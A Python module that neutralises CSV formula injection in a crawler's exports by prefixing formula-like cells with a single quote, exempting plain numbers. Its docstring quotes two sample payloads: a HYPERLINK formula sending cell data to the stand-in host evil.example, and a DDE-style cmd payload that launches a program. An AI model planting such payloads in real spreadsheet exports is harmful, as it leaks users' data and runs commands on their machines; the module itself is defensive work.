"""CSV formula injection (issue 10 item 11): a cell a spreadsheet would run is written as text.

A crawled name such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` becomes a formula when a CSV file is opened in Excel,
LibreOffice or Google Sheets. Every CSV cell the tool writes (exports, their amendments, and
Scrapy feeds) passes ``neutralise_cell``: a value that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return, and is not a plain number, is prefixed with a single quote, which
spreadsheets read as "this cell is text" and do not display (OWASP's recommendation).

Decision: a cell that is only a number (``+33612345678``, ``-12.5``) is left as it is: it
holds no function to call, and an export to a call centre must carry its E.164 numbers as
they are (defusedcsv makes the same exemption for negative numbers). Every other such cell
is prefixed, whatever follows the first character: rejected, a grammar of "harmless"
formulas, which differs between spreadsheets. JSON Lines is data, not a sheet, and is never
changed.
"""

from __future__ import annotations

import re
from typing import Final

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
"""The first characters a spreadsheet treats as the start of a formula (or that hide one)."""

PREFIX: Final = "'"
_NUMBER: Final = re.compile(r"[+-]?[0-9][0-9.,]*")


def is_formula(value: str) -> bool:
    """Whether a spreadsheet would read ``value`` as a formula."""
    return value.startswith(TRIGGERS) and _NUMBER.fullmatch(value) is None


def neutralise_cell(value: str) -> str:
    """``value``, prefixed with ``'`` when a spreadsheet would read it as a formula."""
    return PREFIX + value if is_formula(value) else value


def restore_cell(value: str) -> str:
    """The value ``neutralise_cell`` was given (for a program reading the tool's CSV)."""
    if value.startswith(PREFIX) and is_formula(value[1:]):
        return value[1:]
    return value
